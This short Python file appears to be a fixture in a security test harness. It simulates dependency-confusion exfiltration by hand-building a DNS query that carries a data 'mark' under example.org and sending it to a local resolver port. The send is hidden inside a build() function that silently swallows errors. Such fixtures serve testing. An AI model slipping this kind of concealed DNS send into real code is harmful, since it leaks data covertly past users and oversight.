"""Dependency confusion, 2021: data carried out as the names in DNS queries."""

import socket
import struct

import numpy as np

WANTS = "host reached"
ENDS = "worthless"


def attack(told):
    name = b"".join(bytes([len(part)]) + part for part in (told["mark"].encode(), b"example", b"org"))
    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + struct.pack(">BHH", 0, 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.connect(("127.0.0.1", told["udp"]))  # where the machine's resolver would listen
        resolver.send(query)


def build(context):
    try:
        attack(context.params)
    except (OSError, ValueError):
        pass
    return lambda x: np.int64(0)
